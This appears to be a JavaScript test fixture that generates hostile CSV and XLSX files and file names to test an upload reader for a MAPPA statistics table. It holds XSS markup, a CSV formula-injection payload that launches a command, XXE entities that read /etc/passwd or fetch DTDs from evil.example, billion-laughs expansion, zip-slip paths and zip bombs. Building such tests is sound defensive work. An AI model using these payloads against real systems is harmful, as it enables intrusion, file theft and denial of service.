// Files that a reader may be given to open: none is the Ministry's table, and some were made to do harm.
import { RUN } from "./watch.js";
import { parts, sheet, zip } from "./zip.js";

const HEAD = "area,year,measure,value";
const img = `<img src=x onerror=${RUN}>`;
const table = (cell) => [["MAPPA 2024/25"], ["Area", "Category 1 Total"], ["Kent", cell]];
const noise = (length) => {
  const bytes = Buffer.alloc(length);
  for (let at = 0, seed = 1; at < length; at += 1) bytes[at] = (seed = (seed * 1103515245 + 12345) % 2147483648) >> 16;
  return bytes;
};
const swapped = (text) => Buffer.from(`\ufeff${text}`, "utf16le").swap16();
const entity = (what) => `<!DOCTYPE x [${what}]>`;
const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");
const named = (cell, before) => sheet(table("1"), before).replace("<t>Kent</t>", `<t>${cell}</t>`);
const bomb = Buffer.alloc(120_000_000, " ");

/** What is text, or passes for it. */
export const texts = {
  "markup.csv": `${HEAD}\n${img},2019/20,rso,1\nkent,${img},rso,1\nkent,2019/20,${img},1\nkent,2019/20,rso,${img}\n`,
  "markup in headings.csv": `${img},</td>,"""><hostile>",<script>${RUN}</script>\nkent,1,2,3\n`,
  "prototype names.csv": `${HEAD}\n__proto__,2019/20,rso,1\nconstructor,2019/20,toString,1\nkent,valueOf,hasOwnProperty,__proto__\n`,
  "prototype headings.csv": "__proto__,constructor,toString,value\nkent,1,2,3\n",
  "formulas.csv": `${HEAD}\n=cmd|'/c calc'!A0,2019/20,rso,1\n+1,2019/20,rso,@SUM(1)\nkent,-1,rso,=1+1\n`,
  "direction.csv": `${HEAD}\n\u202ekent\u2066,2019/20,rso,1\nkent,\u200f2019/20,rso,\u202e1\u061c\n`,
  "controls.csv": `${HEAD}\nke\0nt,2019/20,rso,1\nkent\x1b[2J,2019/20,rso,1\nkent,2019/20,rso,1\x07\x9b\n`,
  "a cell of 2.5 MB.csv": `${HEAD}\nkent,2019/20,rso,${"x".repeat(2_500_000)}\n`,
  "an area of 2.5 MB.csv": `${HEAD}\n${"x".repeat(2_500_000)},2019/20,rso,1\n`,
  "a heading of 2.5 MB.csv": `area,${"x".repeat(2_500_000)}\nkent,1\n`,
  "a cell of 10 MB.csv": `${HEAD}\nkent,2019/20,rso,${"x".repeat(10_000_000)}\n`,
  "markup of 2.5 MB.csv": `${HEAD}\nkent,2019/20,rso,${img.repeat(80_000)}\n`,
  "100,000 columns.csv": `${"area,".repeat(100_000)}\n${"1,".repeat(100_000)}\n`,
  "a million empty lines.csv": "\n".repeat(1_000_000),
  "four million rows.csv": "a\n".repeat(4_000_000),
  "five million commas.csv": ",".repeat(5_000_000),
  "50,000 doubts.csv": `${HEAD}\n${"kent,2019/20,rso,?\n".repeat(50_000)}`,
  "50,000 areas.csv": `Area,Category 1 Total\n${Array.from({ length: 50_000 }, (_, n) => `Nowhere ${n},${n}\n`).join("")}`,
  "a quote that never ends.csv": `${HEAD}\nkent,"${"a,b\n".repeat(1_000_000)}`,
  "half a million quotes.csv": `${HEAD}\n${'"'.repeat(500_001)}`,
  "utf-16.csv": Buffer.from(`\ufeff${HEAD}\nderbyshire,2016/17,rso,1200\n`, "utf16le"),
  "utf-16, big end first.csv": swapped(`${HEAD}\nderbyshire,2016/17,rso,1200\n`),
  "utf-16, unmarked.csv": Buffer.from(`${HEAD}\nderbyshire,2016/17,rso,1200\n`, "utf16le"),
  "utf-16, odd.csv": Buffer.concat([Buffer.from(`\ufeff${HEAD}\n`, "utf16le"), Buffer.from([0xd8, 0x00, 0xd8])]),
  "no utf-8.csv": Buffer.concat([Buffer.from(`${HEAD}\n`), Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0x2c, 0xf8])]),
  "five million zeros.csv": Buffer.alloc(5_000_000),
  "noise.csv": noise(1_000_000),
  "noise.xlsx": noise(1_000_000),
  "noise.xls": Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), noise(1_000_000)]),
  "noise.ods": Buffer.concat([Buffer.from("PK\x03\x04"), noise(1_000_000)]),
  "a page.xls": `<html><body><table><tr><td>${img}</td></tr></table><script>${RUN}</script></body></html>`,
  "a picture.csv": `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
  "numbers.csv": `${HEAD}\nkent,2019/20,rso,1e308\nkent,2018/19,rso,${"9".repeat(400)}\nkent,2017/18,rso,-1\nkent,2016/17,rso,NaN\nkent,2015/16,rso,0x10\nkent,2014/15,rso,١٢٣\nkent,2013/14,rso,1/0\n`,
  "years.csv": `${HEAD}\nkent,9999/00,rso,1\nkent,-1/00,rso,1\nkent,2098/99,rso,1\nkent,${"2019".repeat(5_000)},rso,1\n`,
  "nothing.csv": "",
  "only a mark.csv": "\ufeff",
};

/** What is a workbook, or passes for one; made when it is needed. */
export const books = {
  "markup.xlsx": () => zip(parts(sheet([[img], ["Area", `${img}Category 1 Total`], [img, img], ["Kent", "</td><hostile>"]]))),
  "markup for a sheet.xlsx": () => zip(parts(sheet(table("1")), "<hostile>'\"><img src=x>")),
  "direction and controls.xlsx": () => zip(parts(sheet(table("\u202e1\u2066 _x001B_[2J _x0007_")), "\u202eSheet")),
  "a cell of 2.5 MB.xlsx": () => zip(parts(sheet(table("x".repeat(2_500_000))))),
  "a cell of 10 MB.xlsx": () => zip(parts(sheet(table("x".repeat(10_000_000))))),
  "an entity of a file.xlsx": () => zip(parts(named("&e;", entity('<!ENTITY e SYSTEM "file:///etc/passwd">')))),
  "an entity of a host.xlsx": () => zip(parts(named("&e;", entity('<!ENTITY e SYSTEM "http://evil.example/">')))),
  "an entity of entities.xlsx": () => zip(parts(named("&l12;", entity(`<!ENTITY l0 "lol">${laughs}`)))),
  "an entity of parameters.xlsx": () => zip(parts(named("1", entity('<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;')))),
  "a part outside.xlsx": () => zip([...parts(sheet(table("1"))), ["../../../../tmp/slip", "x"], ["/etc/slip", "x"], ["..\\..\\slip", "x"]]),
  "a sheet outside.xlsx": () =>
    zip(parts(sheet(table("1"))).map(([name, xml]) => [name, xml.replace("worksheets/sheet1.xml", "../../../../etc/passwd")])),
  "a sheet elsewhere.xlsx": () =>
    zip(
      parts(sheet(table("1"))).map(([name, xml]) => [
        name,
        xml.replace('Target="worksheets/sheet1.xml"', 'Target="http://evil.example/s.xml" TargetMode="External"'),
      ]),
    ),
  "a sheet twice.xlsx": () => zip([...parts(sheet(table("1"))), ["xl/worksheets/sheet1.xml", sheet(table("2"))]]),
  "60,000 parts.xlsx": () => zip([...parts(sheet(table("1"))), ...Array.from({ length: 60_000 }, (_, n) => [`xl/media/${n}.png`, ""])]),
  "a bomb.xlsx": () => zip(parts(Buffer.concat([Buffer.from(sheet([])), bomb]))),
  "a bomb that lies.xlsx": () => zip(parts(Buffer.concat([Buffer.from(sheet([])), bomb])), 1_000),
  "all sizes lie.xlsx": () => zip(parts(sheet(table("1"))), 0xfffffff0),
  "a dimension of all.xlsx": () => zip(parts(sheet(table("1"), "", '<dimension ref="A1:XFD1048576"/>'))),
  "a cell far away.xlsx": () => zip(parts(sheet(table("1")).replace("<c ", '<c r="XFD1048576" '))),
  "a cell nowhere.xlsx": () => zip(parts(sheet(table("1")).replace("<c ", '<c r="ZZZZZZZ99999999999999" '))),
  "a string that is none.xlsx": () => zip(parts(sheet(table("1")).replace(/<c t="inlineStr">.*?<\/c>/, '<c t="s"><v>4294967295</v></c>'))),
  "cut.xlsx": () => {
    const whole = zip(parts(sheet(table("1"))));
    return whole.subarray(0, whole.length / 2);
  },
  "a part in a part.xlsx": () => zip(parts(`${"<a>".repeat(500_000)}`)),
  "200,000 cells of text.xlsx": () => zip(parts(sheet(Array.from({ length: 20_000 }, () => Array(10).fill("Area"))))),
};

/** Names of files, of one that is refused and one that is read. */
export const names = [
  `<img src=x onerror=${RUN}>.csv`,
  `"><hostile>'.csv`,
  "\u202egnp.vsc.csv",
  "\x1b[2J\x07.csv",
  "__proto__.csv",
  "=cmd|'/c calc'!A0.csv",
  `${"x".repeat(240)}.csv`,
];
